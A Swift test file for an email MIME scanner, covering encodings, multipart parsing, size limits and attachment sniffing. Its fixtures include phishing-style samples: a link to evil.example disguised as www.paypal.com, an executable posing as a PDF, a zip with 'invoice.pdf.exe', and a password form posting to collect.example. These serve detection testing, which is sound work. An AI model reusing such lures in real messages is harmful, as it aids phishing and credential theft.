// Tests for the streaming MIME decoder: line endings, chunking, transfer encodings, the
// multipart walk, attachments, and each limit (nesting, parts, scan, headers).

import Foundation
import XCTest
@testable import EgressCore

final class MIMEScannerTests: XCTestCase {
    /// A multipart/mixed message with a text/plain alternative, an HTML alternative and an
    /// attachment, in LF line endings.
    static let multipartMessage = """
        From: Alice <alice@shop.example>
        To: bob@example.net
        Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=
        MIME-Version: 1.0
        Content-Type: multipart/mixed; boundary="outer"

        preamble is ignored
        --outer
        Content-Type: multipart/alternative; boundary="inner"

        --inner
        Content-Type: text/plain; charset=iso-8859-1
        Content-Transfer-Encoding: quoted-printable

        Caf=E9 au lait, see https://shop.example/menu.
        Soft=
         break here.
        --inner
        Content-Type: text/html; charset=utf-8
        Content-Transfer-Encoding: base64

        PHA+Q2Fmw6kgPGEgaHJlZj0iaHR0cHM6Ly9ldmlsLmV4YW1wbGUvbG9naW4iPnd3dy5wYXlwYWwu
        Y29tPC9hPjwvcD48c2NyaXB0PmhpZGRlbigpPC9zY3JpcHQ+
        --inner--
        --outer
        Content-Type: application/pdf; name="report.pdf"
        Content-Disposition: attachment; filename="report.pdf"
        Content-Transfer-Encoding: base64

        JVBERi0xLjQKJcOkw7zDtsOfCg==
        --outer--
        epilogue is ignored

        """

    private func scan(_ text: String, limits: ScanLimits = .defaults) -> ScanResult {
        MessageScanner.scan(message: Array(text.utf8), limits: limits)
    }

    private func withLineEnding(_ text: String, _ ending: String) -> String {
        text.replacingOccurrences(of: "\n", with: ending)
    }

    func testMultipartWalk() {
        let result = scan(Self.multipartMessage)
        XCTAssertEqual(result.headerValue("subject"), "Grüße")
        XCTAssertEqual(result.plainText, "Café au lait, see https://shop.example/menu.\nSoft break here.")
        XCTAssertEqual(result.htmlText, "Café www.paypal.com")
        XCTAssertEqual(result.plainPartCount, 1)
        XCTAssertEqual(result.htmlPartCount, 1)
        XCTAssertEqual(result.partCount, 5)
        XCTAssertTrue(result.links.contains(Link(target: "https://evil.example/login", text: "www.paypal.com", source: .anchor)))
        XCTAssertTrue(result.links.contains(Link(target: "https://shop.example/menu", source: .text)))
        XCTAssertEqual(result.attachments, [Attachment(name: "report.pdf", declaredType: "application/pdf", sniffedType: .pdf, size: 19)])
        XCTAssertFalse(result.anomalies.brokenMultipart)
        XCTAssertEqual(result.anomalies.replacementCharacters, 0)
    }

    func testLineEndingsGiveTheSameResult() {
        let reference = scan(Self.multipartMessage)
        for ending in ["\r\n", "\r"] {
            let result = scan(withLineEnding(Self.multipartMessage, ending))
            XCTAssertEqual(result.plainText, reference.plainText, ending.debugDescription)
            XCTAssertEqual(result.htmlText, reference.htmlText, ending.debugDescription)
            XCTAssertEqual(result.links, reference.links, ending.debugDescription)
            XCTAssertEqual(result.attachments, reference.attachments, ending.debugDescription)
            XCTAssertEqual(result.headers.map(\.value), reference.headers.map(\.value), ending.debugDescription)
            XCTAssertEqual(result.partCount, reference.partCount, ending.debugDescription)
        }
    }

    func testChunkBoundariesDoNotMatter() {
        for ending in ["\n", "\r\n", "\r"] {
            let message = Array(withLineEnding(Self.multipartMessage, ending).utf8)
            let reference = MessageScanner.scan(message: message)
            let split = MessageScanner.splitHeaders(of: message)
            for chunkSize in [1, 2, 3, 7, 64] {
                let scanner = MessageScanner()
                for header in split.headers {
                    scanner.addHeader(name: header.name, value: header.value)
                }
                var offset = 0
                while offset < split.body.count {
                    let end = min(split.body.count, offset + chunkSize)
                    scanner.feed(Array(split.body[offset..<end]))
                    offset = end
                }
                let result = scanner.finish()
                let label = "chunks of \(chunkSize), ending \(ending.debugDescription)"
                XCTAssertEqual(result.plainText, reference.plainText, label)
                XCTAssertEqual(result.htmlText, reference.htmlText, label)
                XCTAssertEqual(result.links, reference.links, label)
                XCTAssertEqual(result.attachments, reference.attachments, label)
            }
        }
    }

    func testTransferEncodings() {
        struct Case {
            var name: String
            var headers: String
            var body: String
            var expected: String
            var invalidBase64: Int = 0
        }
        let cases = [
            Case(name: "7bit", headers: "", body: "line one\nline two\n", expected: "line one\nline two\n"),
            Case(name: "base64", headers: "Content-Transfer-Encoding: base64\n", body: "aGVsbG8gd29y\nbGQ=\n", expected: "hello world"),
            Case(name: "base64 with junk", headers: "Content-Transfer-Encoding: BASE64\n", body: "aGVs*bG8=\n", expected: "hello",
                 invalidBase64: 1),
            Case(name: "quoted-printable", headers: "Content-Transfer-Encoding: quoted-printable\n",
                 body: "a=3Db =\nc   \nbroken =ZZ end\n", expected: "a=b c\nbroken =ZZ end\n"),
            Case(name: "qp utf-8", headers: "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n",
                 body: "=E2=82=AC=\n5\n", expected: "€5\n"),
            Case(name: "8bit latin1", headers: "Content-Type: text/plain; charset=iso-8859-1\nContent-Transfer-Encoding: 8bit\n",
                 body: "na\u{EF}ve\n", expected: "naïve\n"),
        ]
        for item in cases {
            let scanner = MessageScanner()
            let split = MessageScanner.splitHeaders(of: Array(("Subject: x\n" + item.headers + "\n").utf8))
            for header in split.headers {
                scanner.addHeader(name: header.name, value: header.value)
            }
            // Latin-1 bytes must reach the scanner as single bytes, not as UTF-8.
            scanner.feed(item.body.unicodeScalars.map { UInt8(truncatingIfNeeded: $0.value) })
            let result = scanner.finish()
            XCTAssertEqual(result.plainText, item.expected, item.name)
            XCTAssertEqual(result.anomalies.invalidBase64Characters, item.invalidBase64, item.name)
        }
    }

    func testCharsetOfTextPartIsConverted() {
        let body: [UInt8] = Array("Content-Type: text/plain; charset=koi8-r\n\n".utf8) + [0xF0, 0xD2, 0xC9, 0xD7, 0xC5, 0xD4]
        let result = MessageScanner.scan(message: body)
        XCTAssertEqual(result.plainText, "Привет")
    }

    func testInvalidBytesAreCountedNotDropped() {
        let body: [UInt8] = Array("Content-Type: text/plain; charset=utf-8\n\nok ".utf8) + [0xFF, 0xFE] + Array(" end".utf8)
        let result = MessageScanner.scan(message: body)
        XCTAssertEqual(result.plainText, "ok \u{FFFD}\u{FFFD} end")
        XCTAssertEqual(result.anomalies.replacementCharacters, 2)
    }

    /// Builds `depth` multiparts nested in each other around one text part.
    private func nestedMessage(depth: Int) -> String {
        var text = "Content-Type: text/plain\n\ninnermost text\n"
        for level in (0..<depth).reversed() {
            text = "Content-Type: multipart/mixed; boundary=\"b\(level)\"\n\n--b\(level)\n\(text)--b\(level)--\n"
        }
        return "Subject: nested\n" + text
    }

    func testNestingLimit() {
        var limits = ScanLimits()
        limits.maximumNestingDepth = 8
        let shallow = scan(nestedMessage(depth: 8), limits: limits)
        XCTAssertFalse(shallow.anomalies.nestingLimitReached)
        XCTAssertEqual(shallow.plainText, "innermost text")

        let deep = scan(nestedMessage(depth: 9), limits: limits)
        XCTAssertTrue(deep.anomalies.nestingLimitReached)
        XCTAssertEqual(deep.plainText, "")

        // Far beyond the limit the scanner still finishes.
        let hostile = scan(nestedMessage(depth: 3000))
        XCTAssertTrue(hostile.anomalies.nestingLimitReached)
    }

    func testNestedMessageIsDecoded() {
        let message = """
            Subject: fwd
            Content-Type: multipart/mixed; boundary=x

            --x
            Content-Type: message/rfc822

            Subject: inner
            Content-Type: text/html

            <b>inner body</b>
            --x--

            """
        let result = scan(message)
        XCTAssertEqual(result.htmlText, "inner body")
        XCTAssertEqual(result.partCount, 3)
    }

    func testPartLimit() {
        var limits = ScanLimits()
        limits.maximumParts = 4
        var message = "Content-Type: multipart/mixed; boundary=p\n\n"
        for index in 0..<10 {
            message += "--p\nContent-Type: text/plain\n\npart \(index)\n"
        }
        message += "--p--\n"
        let result = scan(message, limits: limits)
        XCTAssertTrue(result.anomalies.partLimitReached)
        XCTAssertEqual(result.partCount, 4)
        XCTAssertEqual(result.plainText, "part 0\npart 1\npart 2")
    }

    func testScanLimit() {
        var limits = ScanLimits()
        limits.scanLimitBytes = 100
        let body = String(repeating: "0123456789\n", count: 50)
        let result = scan("Subject: big\n\n" + body, limits: limits)
        XCTAssertTrue(result.anomalies.scanLimitReached)
        XCTAssertEqual(result.bodyBytes, 550)
        XCTAssertEqual(result.scannedBytes, 100)
        XCTAssertEqual(result.plainText.utf8.count, 100)

        let small = scan("Subject: small\n\nshort\n", limits: limits)
        XCTAssertFalse(small.anomalies.scanLimitReached)
    }

    func testHeaderLimit() {
        var limits = ScanLimits()
        limits.maximumHeaderBytes = 64
        let scanner = MessageScanner(limits: limits)
        scanner.addHeader(name: "Subject", value: Array("first".utf8))
        scanner.addHeader(name: "X-Long", value: Array(repeating: 0x41, count: 100))
        let result = scanner.finish()
        XCTAssertEqual(result.headers.map(\.name), ["Subject"])
        XCTAssertTrue(result.anomalies.headerLimitReached)
    }

    func testMissingBoundaryIsRecorded() {
        let result = scan("Content-Type: multipart/mixed\n\nsome text\n")
        XCTAssertTrue(result.anomalies.brokenMultipart)
        XCTAssertEqual(result.plainText, "some text\n")

        let unterminated = scan("Content-Type: multipart/mixed; boundary=z\n\n--z\n\nbody\n")
        XCTAssertTrue(unterminated.anomalies.brokenMultipart)
        XCTAssertEqual(unterminated.plainText, "body")
    }

    func testAttachmentsAreSniffed() {
        let zip = Data(zipWithEntries(["invoice.pdf.exe", "readme.txt"])).base64EncodedString()
        let exe = Data([0x4D, 0x5A, 0x90, 0x00] + Array(repeating: 0, count: 60)).base64EncodedString()
        let message = """
            Content-Type: multipart/mixed; boundary=a

            --a
            Content-Type: application/pdf
            Content-Disposition: attachment; filename=statement.pdf
            Content-Transfer-Encoding: base64

            \(exe)
            --a
            Content-Type: application/zip; name=docs.zip
            Content-Transfer-Encoding: base64

            \(zip)
            --a
            Content-Type: text/html; name=login.html

            <form action="https://collect.example/p"><input type=password name=p></form>
            --a
            Content-Type: image/png

            --a--

            """
        let result = scan(message)
        XCTAssertEqual(result.attachments.count, 4)
        XCTAssertEqual(result.attachments[0].name, "statement.pdf")
        XCTAssertEqual(result.attachments[0].declaredType, "application/pdf")
        XCTAssertEqual(result.attachments[0].sniffedType, .windowsExecutable)
        XCTAssertEqual(result.attachments[1].sniffedType, .zip)
        XCTAssertEqual(result.attachments[1].archiveEntries, ["invoice.pdf.exe", "readme.txt"])
        XCTAssertEqual(result.attachments[2].name, "login.html")
        XCTAssertTrue(result.attachments[2].hasPasswordField)
        XCTAssertTrue(result.links.contains(Link(target: "https://collect.example/p", source: .form)))
        XCTAssertEqual(result.attachments[3].sniffedType, .empty)
        XCTAssertEqual(result.plainText, "")
    }

    func testPartWithoutEmptyLineAfterHeaders() {
        let result = scan("Subject: x\nContent-Type: multipart/mixed; boundary=q\n\n--q\nContent-Type: text/plain\nno blank line here\n--q--\n")
        XCTAssertEqual(result.plainText, "no blank line here")
    }

    func testMboxFromLineIsSkipped() {
        let result = scan("From sender@example.com Mon Jan  1 00:00:00 2024\nSubject: hello\n\nbody\n")
        XCTAssertEqual(result.headerValue("Subject"), "hello")
        XCTAssertEqual(result.plainText, "body\n")
    }

    func testEmptyInputs() {
        for input in ["", "\n", "\r\n", "Subject: only headers", "no header line at all\n\nbody"] {
            let result = scan(input)
            XCTAssertGreaterThanOrEqual(result.partCount, 1, input.debugDescription)
        }
    }
}

/// Builds the local file headers of a zip archive with stored, empty entries.
func zipWithEntries(_ names: [String]) -> [UInt8] {
    var bytes: [UInt8] = []
    for name in names {
        let nameBytes = Array(name.utf8)
        bytes += [0x50, 0x4B, 0x03, 0x04, 20, 0, 0, 0, 0, 0, 0, 0, 0, 0]
        bytes += [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]
        bytes += [UInt8(nameBytes.count & 0xFF), UInt8(nameBytes.count >> 8), 0, 0]
        bytes += nameBytes
    }
    return bytes
}
